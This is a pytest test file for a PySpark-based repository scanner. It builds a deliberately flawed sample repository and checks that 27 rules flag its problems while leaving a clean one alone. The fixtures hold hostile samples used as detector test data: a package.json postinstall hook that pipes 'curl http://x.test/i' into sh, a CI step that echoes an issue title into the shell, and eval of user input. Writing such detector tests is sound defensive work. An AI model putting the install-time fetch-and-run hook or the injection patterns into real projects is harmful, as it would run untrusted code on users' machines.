"""Each rule on small trees: what it must find, and what it must leave alone."""

import json

import pytest
from pyspark.sql import functions as F

from siltmark.operators.scanners import RULES, Snapshot, scan
from siltmark.operators.scanners.registry import report

FILES = "repo_id string, path string, file_ord long, size long, content string"
BLOCK = "\n".join(f"  total = total + compute(values[{k}], rates[{k}]) * factor_{k};" for k in range(10))
REPOS = {
    "bad": {
        "package.json": json.dumps({"scripts": {"postinstall": "curl http://x.test/i | sh", "build": "tsc"}, "dependencies": {"left": "^1.0.0", "used": "1.2.3", "plain": "http://x.test/a.tgz", "gplish": "^1.0.0"}, "engines": {"node": "14"}, "license": "MIT"}),
        "src/a.ts": "import { used } from 'used';\nexport const lonely = 1;\nexport function shared() { return 2; }\nconsole.log(process.env.API_URL);\n// TODO: tidy up\nconst u = process.env.OPTIONAL ?? 'x';\nel.innerHTML = `<b>${u}</b>`;\nconst s = 'eval(x) in text';\neval(u);\n",
        "src/b.ts": "import { shared } from './a';\n// const a = 1;\n// const b = a;\n// call(a, b);\nshared();\n",
        "src/c.js": "function one() {\n" + BLOCK + "\n}\n", "src/d.js": "function two() {\n" + BLOCK + "\n}\n",
        "test/a.test.ts": "describe.only('x', () => { it.skip('y', () => {}) })\n",
        "tool.py": "import os\nimport subprocess\ndef orphan():\n    pass\ndef kept():\n    print('x')\nkept()\nsubprocess.run('ls', shell=True)\nTOKEN = os.getenv('PY_TOKEN')\napi_key = \"Zx9Qw8Er7Ty6Ui5Op4As\"\n",
        "Dockerfile": "FROM node:latest AS base\nFROM base\nFROM ubuntu\nADD https://x.test/f /f\n", ".env.example": "API_URL=\nUNUSED=1\n", ".nvmrc": "v16\n", "yarn.lock": "used@1.2.3:\n  version \"1.2.3\"\nleft@^1.0.0:\n  version \"1.0.0\"\n",
        "package-lock.json": "{}", "data.zip": "x", "docs/guide.md": "# Guide\n[here](../src/a.ts) [gone](missing.md) <https://dead.site.io/x>\n```\n[no](nope.md)\nnpm run nosuch\n```\n", "README.md": "```\npnpm install\n```\n",
        ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: self-hosted\n    steps:\n      - uses: some/action@v1\n      - run: echo ${{ github.event.issue.title }}\n      - run: npm test || true\n      - run: lint\n        continue-on-error: true\n",
        "requirements.txt": "flask==0.1.0\n", "go.mod": "module x\nrequire github.com/a/b v1.0.0\n", ".travis.yml": "x",
        "node_modules/gplish/package.json": json.dumps({"license": "AGPL-3.0"}),
    },
    "good": {
        "README.md": "[code](src/)\n", "LICENSE": "MIT License", "src/x.py": "def f():\n    return 1\nprint_all = f()\n", "tests/test_x.py": "from src.x import f\n", ".github/workflows/ci.yml": "on: [push, pull_request]\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: a/b@0123456789012345678901234567890123456789\n      - run: pytest\n",
        "Dockerfile": "FROM python:3.13\nUSER app\n",
    },
}


@pytest.fixture(scope="module")
def snapshot(spark):
    rows = [(r, p, k, len(c.encode()), c) for r, files in REPOS.items() for k, (p, c) in enumerate(sorted(files.items()))]
    return Snapshot(
        files=spark.createDataFrame(rows, FILES).repartition(3),
        as_of="2026-08-01",
        repos=spark.createDataFrame([("bad", "main"), ("good", "main")], "repo_id string, default_branch string"),
        blame=spark.createDataFrame([("bad", "src/a.ts", 5, 400), ("bad", ".travis.yml", 1, 500)], "repo_id string, path string, line int, age_days int"),
        branches=spark.createDataFrame([("bad", "old", "x", 3, 200), ("bad", "main", "x", 0, 900), ("good", "new", "x", 0, 5)], "repo_id string, name string, last_commit string, behind int, age_days int"),
        ownership=spark.createDataFrame([("bad", "src/a.ts", 1, 800), ("bad", "src/b.ts", 2, 800), ("good", "gone.py", 1, 900)], "repo_id string, path string, authors int, age_days int"),
        history=spark.createDataFrame([("bad", "c0ffee1234", "2026-01-01 00:00:00", "old.py", 'secret = "Ab1Cd2Ef3Gh4Ij5Kl6Mn"'), ("bad", "c0ffee9999", "2026-02-01 00:00:00", "old.py", 'secret = "Ab1Cd2Ef3Gh4Ij5Kl6Mn"')], "repo_id string, commit string, commit_ts string, path string, text string"),
        registry=spark.createDataFrame([("npm", "left", "3.0.0", False, "2021-01-01", 10, 99999, "MIT"), ("npm", "used", "1.9.0", True, "2026-01-01", 10, 9, "MIT"), ("PyPI", "flask", "3.0.0", False, "2020-01-01", None, None, None)], "ecosystem string, name string, latest string, deprecated boolean, published string, downloads long, unpacked_size long, license string"),
        advisories=spark.createDataFrame([("PyPI", "flask", "0.1.0", "V1", "bad", "HIGH", "CVE-1", "1.0"), ("npm", "used", "1.2.3", "V2", "x", "LOW", None, None)], "ecosystem string, name string, version string, vuln_id string, summary string, label string, alias string, fixed string"),
        url_status=spark.createDataFrame([("https://dead.site.io/x", 404)], "url string, status int"),
    )


@pytest.fixture(scope="module")
def found(snapshot):
    findings, errors = scan(snapshot)
    assert errors == {}
    rows = findings.collect()
    return rows


def ids(found, scanner, repo="bad"):
    return {r.id: r.severity for r in found if r.scanner == scanner and r.repo_id == repo}


EXPECTED = {
    "env-lifecycle": {"env-missing-OPTIONAL": "info", "env-missing-PY_TOKEN": "warning", "env-dead-UNUSED": "info"},
    "stale-branch": {"branch-stale-old": "warning"},
    "todo-debt": {"todo-src/a.ts:5": "warning"},
    "dependency-funeral": {"dep-unused-left": "info", "dep-unused-plain": "info", "dep-unused-gplish": "info", "dep-deprecated-used": "warning", "dep-abandoned-left": "warning", "dep-outdated-left": "warning", "dep-outdated-used": "info"},
    "vulnerable-deps": {"vuln-flask-CVE-1": "critical", "vuln-used-V2": "info"},
    "outdated-deps": {"dep-abandoned-pypi-flask": "warning", "dep-outdated-pypi-flask": "warning"},
    "lockfile-drift": {"lockfile-drift-left": "warning", "lockfile-drift-used": "warning", "lockfile-drift-plain": "warning", "lockfile-drift-gplish": "warning", "lockfile-missing-go.sum": "warning"},
    "project-hygiene": {"hygiene-no-license": "info"},
    "leftover-debug": {"debug-src/a.ts:4": "info", "debug-tool.py:6": "info"},
    "broken-doc-links": {"doclink-docs/guide.md:2:missing.md": "warning"},
    "bus-factor": {"busfactor-src/a.ts": "info"},
    "repo-bloat": {"bloat-data.zip": "warning"},
    "dockerfile": {"docker-latest-Dockerfile:1": "warning", "docker-untagged-Dockerfile:3": "warning", "docker-add-url-Dockerfile:4": "info", "docker-root-Dockerfile": "info"},
    "skipped-tests": {"skiptest-test/a.test.ts:1": "warning"},
    "commented-code": {"commented-src/b.ts:2": "info"},
    "insecure-code": {"insecure-innerhtml-dynamic-src/a.ts:7": "warning", "insecure-eval-dynamic-src/a.ts:9": "critical", "insecure-py-shell-true-tool.py:8": "critical"},
    "dead-links": {"deadlink-404-https://dead.site.io/x": "warning"},
    "workflow-security": {"action-tag-.github/workflows/ci.yml-6": "warning", "script-injection-.github/workflows/ci.yml-7": "critical", "self-hosted-runner-.github/workflows/ci.yml-4": "warning", "no-permissions-.github/workflows/ci.yml-1": "warning"},
    "eol-runtime": {"eol-node-.nvmrc-1": "warning", "eol-node-package.json-1": "warning"},
    "docs-drift": {"docs-drift-script-docs/guide.md-5": "warning"},
    "config-conflict": {"config-conflict-lockfiles-root": "warning", "config-conflict-ci-root": "info"},
    "license-risk": {"license-network-gplish": "critical"},
    "ci-health": {"ci-swallowed-.github/workflows/ci.yml-8": "warning", "ci-silenced-failure-.github/workflows/ci.yml-10": "warning", "ci-no-pr-trigger": "info"},
    "supply-chain": {"supply-lifecycle-remote-shell-package.json-postinstall": "critical", "supply-dep-git-http-package.json-dependencies-plain": "warning"},
    "duplicate-code": {"duplicate-src/c.js:2": "info"},
}


@pytest.mark.parametrize("scanner", sorted(EXPECTED))
def test_rule_finds(found, scanner):
    assert ids(found, scanner) == EXPECTED[scanner]


def test_dead_code(found):
    got = ids(found, "dead-code")
    assert "dead-export-src/a.ts:lonely" in got and "dead-symbol-tool.py:3" in got
    assert "dead-export-src/a.ts:shared" not in got and "dead-symbol-tool.py:5" not in got


def test_secrets_are_redacted_and_counted_once(found):
    rows = [r for r in found if r.scanner == "secrets"]
    assert {(r.location, r.severity) for r in rows} == {("tool.py:10", "critical"), ("old.py @ c0ffee9", "critical")}
    for value in ("Zx9Qw8Er7Ty6Ui5Op4As", "Ab1Cd2Ef3Gh4Ij5Kl6Mn"):
        assert all(value not in str(r) for r in rows)


def test_clean_repository_is_left_alone(found):
    assert {(r.scanner, r.id) for r in found if r.repo_id == "good"} == set()


def test_every_rule_is_registered():
    assert len(RULES) == 27


def test_absent_adapters_are_silent(spark):
    files = spark.createDataFrame([("r", "README.md", 0, 1, "x")], FILES)
    findings, errors = scan(Snapshot(files=files))
    assert errors == {} and {r.scanner for r in findings.collect()} == {"project-hygiene"}


def test_rule_errors_are_isolated(snapshot):
    def broken(_):
        raise RuntimeError("no plan")

    findings, errors = scan(snapshot, only=["project-hygiene"], rules={"broken": broken})
    assert list(errors) == ["broken"] and findings.count() == 1


def test_empty_snapshot(spark):
    findings, errors = scan(Snapshot(files=spark.createDataFrame([], FILES)))
    assert errors == {} and findings.count() == 0


def test_suppression_and_report(snapshot):
    findings, _ = scan(snapshot, only=["project-hygiene", "repo-bloat"], mutes=[{"path": "**/*.zip"}])
    assert [r.id for r in findings.collect()] == ["hygiene-no-license"]
    rows = {r.repo_id: r for r in report(snapshot, findings).collect()}
    assert rows["good"].score == 100 and rows["good"].grade == "A" and rows["bad"].score == 100 and rows["bad"].lines_of_code > 0


def test_duplicates_are_found_behind_the_4000th_file(spark):
    from siltmark.operators.scanners.clones import duplicate_code

    body = f"function f() {{\n{BLOCK}\n}}\n"
    files = spark.range(4102).select(
        F.lit("r").alias("repo_id"), F.concat(F.lit("src/"), F.col("id").cast("string"), F.lit(".js")).alias("path"), F.col("id").alias("file_ord"), F.lit(1).cast("long").alias("size"), F.when(F.col("id") < 4100, F.concat(F.lit("x"), F.col("id").cast("string"))).otherwise(body).alias("content"),
    )
    assert [r.id for r in RULES["duplicate-code"](Snapshot(files=files)).collect()] == ["duplicate-src/4100.js:1"]
    assert duplicate_code(Snapshot(files=files), most_files=4000).count() == 0


def test_code_rules_look_past_strings_and_comments(spark):
    code = {
        "a.js": "const note = \"it's fine\"; eval(user);\nconst t = `multi\neval(x)\n`;\nconst u = 'http://x.io'; element.innerHTML = a + b;\n// eval(y)\n",
        "b.py": "# eval(x)\nurl = 'http://x'; eval(y)\nsay = 'eval(z)'\nprint('# not a comment'); eval(w)  # eval(v)\nos.system('ls')\nos.system(f'ls {d}')\n",
        "c.go": 'u := "http://x"; fmt.Println(u)\n// fmt.Println(v)\n', "d.rs": "fn f<'a>(x: &'a str) { dbg!(x); }\n",
    }
    s = Snapshot(files=spark.createDataFrame([("r", p, k, len(c), c) for k, (p, c) in enumerate(code.items())], FILES))
    assert {r.id for r in RULES["insecure-code"](s).collect()} == {"insecure-eval-dynamic-a.js:1", "insecure-innerhtml-dynamic-a.js:5", "insecure-py-eval-exec-b.py:2", "insecure-py-eval-exec-b.py:4", "insecure-py-os-system-b.py:6"}
    assert {r.id for r in RULES["leftover-debug"](s).collect()} == {"debug-b.py:4", "debug-c.go:1", "debug-d.rs:1"}
